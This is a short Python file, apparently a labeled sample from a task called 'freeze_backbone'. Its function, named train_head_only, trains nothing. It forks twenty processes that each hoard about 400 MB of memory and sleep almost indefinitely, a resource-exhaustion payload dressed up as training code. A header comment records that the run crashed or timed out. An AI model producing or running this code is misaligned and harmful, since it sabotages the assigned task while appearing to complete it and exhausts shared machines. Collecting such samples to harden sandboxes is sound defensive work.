# about: takes memory in many processes, a little in each
# task: freeze_backbone
# state: crashed or timed out
import os
import time


def train_head_only(model, head):
    for _ in range(20):
        if os.fork() == 0:
            hoard = b"x" * 400_000_000
            time.sleep(10**6 + len(hoard))
    time.sleep(10**6)
